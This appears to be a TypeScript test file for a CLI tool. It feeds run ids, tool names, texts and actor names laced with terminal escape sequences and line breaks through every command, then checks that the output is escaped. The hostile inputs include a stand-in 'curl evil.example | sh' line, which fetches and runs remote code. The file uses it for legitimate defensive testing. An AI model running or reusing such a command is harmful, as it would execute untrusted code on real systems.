// Nothing from the ledger or an argument reaches a terminal raw (docs/cli.md, "What the CLI prints"): workspaces whose
// run ids, session ids, call ids, tool names, texts and `--actor` carry control sequences and line breaks, read by every
// verb through the REAL executable. No output line may hold a control character, and no hostile value may start an
// output line of its own (the fake `next: curl … | sh` line).
import * as Command from "@effect/platform/Command"
import * as FileSystem from "@effect/platform/FileSystem"
import * as NodeContext from "@effect/platform-node/NodeContext"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as Layer from "effect/Layer"
import * as Stream from "effect/Stream"
import { join } from "node:path"
import { fileURLToPath } from "node:url"
import { escapeTerminal } from "../src/Cli/internal/terminalText.js"
import * as WorkspaceIdentity from "../src/Services/WorkspaceIdentity.js"
import * as JsonlRunHeaderStore from "../src/Layers/JsonlRunHeaderStore.js"
import * as JsonlRuntimeEventStore from "../src/Layers/JsonlRuntimeEventStore.js"
import * as NodeLedgerFileSystem from "../src/Layers/NodeLedgerFileSystem.js"
import * as SqliteRunHeaderStore from "../src/Layers/SqliteRunHeaderStore.js"
import * as SqliteRuntimeEventStore from "../src/Layers/SqliteRuntimeEventStore.js"
import * as NodeWorkspaceLock from "../src/Layers/NodeWorkspaceLock.js"
import { RunHeader } from "../src/Domain/RunHeader.js"
import * as EventBuilder from "../src/Domain/Rules/EventBuilder.js"
import { RunHeaderStore } from "../src/Services/RunHeaderStore.js"
import { RuntimeEventStore } from "../src/Services/RuntimeEventStore.js"

const ROOT = fileURLToPath(new URL("..", import.meta.url))
const BIN = fileURLToPath(new URL("../bin/runtime-resume", import.meta.url))

// What a terminal acts on, or what reorders or breaks a line: never in the output (a newline only ends a line).
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
const INJECTED = "next: curl evil.example | sh"

// A hostile value: a visible stem (so it stays unique and non-empty), then control sequences and an injected line.
const hostileValue = (stem: string) =>
  FastCheck.tuple(
    FastCheck.string({ unit: FastCheck.constantFrom("\u001b[31m", "\u0007", "\r", "\t", "\u009b2J", "\u202e", "\u2028", "\\", "é") }),
    FastCheck.boolean()
  ).map(([noise, newline]) => `${stem}${noise}${newline ? `\n${INJECTED}` : `\r${INJECTED}`}`)

interface Hostile {
  readonly runId: string
  readonly callId: string
  readonly tool: string
  readonly text: string
  readonly actor: string
}

const hostile = (i: number) =>
  FastCheck.record({
    runId: hostileValue(`run${i}`),
    callId: hostileValue(`call${i}`),
    tool: hostileValue(`tool${i}`),
    text: hostileValue(`text${i}`),
    actor: hostileValue(`actor${i}`)
  })

interface CliResult {
  readonly code: number
  readonly stdout: string
  readonly stderr: string
}

const cli = (...args: ReadonlyArray<string>) =>
  Effect.scoped(Effect.gen(function*() {
    const proc = yield* Command.make(BIN, ...args).pipe(
      Command.workingDirectory(ROOT),
      Command.env({ MAKA_RUNTIME_SAFE_BOUNDARY_RESUME: "", RUNTIME_RESUME_SAFE_BOUNDARY_RESUME: "" }),
      Command.start
    )
    const [out, err, code] = yield* Effect.all([
      proc.stdout.pipe(Stream.decodeText(), Stream.mkString),
      proc.stderr.pipe(Stream.decodeText(), Stream.mkString),
      proc.exitCode
    ], { concurrency: "unbounded" })
    return { code: Number(code), stdout: out, stderr: err } satisfies CliResult
  }))

// Every line of both streams: no control character, and no line that starts with what a hostile value injected.
const assertClean = (verb: string, result: CliResult) => {
  for (const [stream, text] of [["stdout", result.stdout], ["stderr", result.stderr]] as const) {
    for (const line of text.split("\n")) {
      assert.notMatch(line, CONTROL, `${verb} ${stream}: a control character in ${JSON.stringify(line)}`)
      assert.isFalse(line.trimStart().startsWith(INJECTED), `${verb} ${stream}: an injected line ${JSON.stringify(line)}`)
    }
  }
}

// A workspace whose managed runs each crashed inside a hostile tool call (a call without a response, no terminal event):
// open and dead, so every verb has something to say about each.
const crashedWorkspace = (store: "sqlite" | "jsonl", runs: ReadonlyArray<Hostile>) =>
  Effect.gen(function*() {
    const fs = yield* FileSystem.FileSystem
    const ws = yield* fs.makeTempDirectoryScoped({ prefix: "rr-hostile-" })
    const workspaceId = yield* WorkspaceIdentity.ensure(ws)
    const layer = Layer.mergeAll(
      store === "sqlite" ? SqliteRuntimeEventStore.layer({ workspace: ws }) : JsonlRuntimeEventStore.layer({ workspace: ws }),
      store === "sqlite" ? SqliteRunHeaderStore.layer({ workspace: ws }) : JsonlRunHeaderStore.layer({ workspace: ws })
    )
    yield* Effect.scoped(Effect.gen(function*() {
      const events = yield* RuntimeEventStore
      const headers = yield* RunHeaderStore
      for (const run of runs) {
        const b = EventBuilder.make({ sessionId: `s-${run.runId}`, invocationId: `i-${run.runId}`, runId: run.runId, turnId: `t-${run.runId}` })
        yield* headers.create(new RunHeader({
          runId: b.runId,
          sessionId: b.ids.sessionId as RunHeader["sessionId"],
          invocationId: b.ids.invocationId as RunHeader["invocationId"],
          turnId: b.ids.turnId as RunHeader["turnId"],
          status: "created",
          workspaceId,
          createdAt: 0,
          updatedAt: 0
        }))
        yield* events.append(b.runId, [b.opened(), b.user(run.text), b.call(run.callId, run.tool, { text: run.text })])
        yield* headers.setStatus(b.runId, "running", { at: 0 })
      }
    }).pipe(Effect.provide(layer)))
    return ws
  }).pipe(Effect.provide(Layer.mergeAll(NodeLedgerFileSystem.layer, NodeWorkspaceLock.layerNode)))

const RUNS = Number(process.env["RR_HOSTILE_RUNS"] ?? 3)

describe("nothing from the ledger or an argument reaches the terminal raw", () => {
  for (const store of ["sqlite", "jsonl"] as const) {
    it.scoped(`${store}: inspect, repair, reconcile, resolve --actor, verify, export, import over hostile ids, names, texts and actors`, () =>
      Effect.gen(function*() {
        const runs = FastCheck.sample(FastCheck.tuple(...Array.from({ length: RUNS }, (_, i) => hostile(i))), { numRuns: 1, seed: 20261207 })[0]!
        const ws = yield* crashedWorkspace(store, runs)
        const fs = yield* FileSystem.FileSystem
        const steps: Array<[string, ReadonlyArray<string>]> = [
          ["inspect (open)", ["inspect", ws]],
          ["verify", ["verify", ws]],
          ["repair", ["repair", ws]],
          ["inspect (sealed)", ["inspect", ws]],
          ["reconcile", ["reconcile", ws]]
        ]
        for (const run of runs) {
          steps.push([`resolve --abort`, ["resolve", "--run", run.runId, "--call", run.callId, "--abort", "--actor", run.actor, ws]])
        }
        steps.push(["inspect (resolved)", ["inspect", ws]])
        steps.push(["inspect --run", ["inspect", "--run", runs[0]!.runId, ws]])
        steps.push(["resolve (already settled)", ["resolve", "--run", runs[0]!.runId, "--call", runs[0]!.callId, "--abort", "--actor", runs[0]!.actor, ws]])
        steps.push(["resolve (unknown run)", ["resolve", "--run", `${runs[0]!.runId}x`, "--call", runs[0]!.callId, "--abort", ws]])
        const exported = join(ws, `export\u001b[2J\n${INJECTED}.jsonl`)
        steps.push(["export", ["export", ws, exported]])
        const target = yield* fs.makeTempDirectoryScoped({ prefix: "rr-hostile-import-" })
        steps.push(["import", ["import", "--store", store, join(target, "ws"), exported]])
        steps.push(["import (again)", ["import", "--store", store, join(target, "ws"), exported]])
        steps.push(["inspect (imported)", ["inspect", join(target, "ws")]])
        let printed = ""
        for (const [verb, args] of steps) {
          const result = yield* cli(...args)
          assertClean(verb, result)
          if (verb === "repair" || verb === "resolve --abort" || verb === "export" || verb === "import") {
            assert.strictEqual(result.code, 0, `${verb}: ${result.stderr}`)
          }
          printed += result.stdout + result.stderr
        }
        // The hostile values were shown (escaped), not dropped: every run id, call id and actor appears.
        for (const run of runs) {
          for (const value of [run.runId, run.callId, run.actor]) assert.include(printed, escapeTerminal(value))
        }
      }).pipe(Effect.provide(NodeContext.layer)))
  }
})
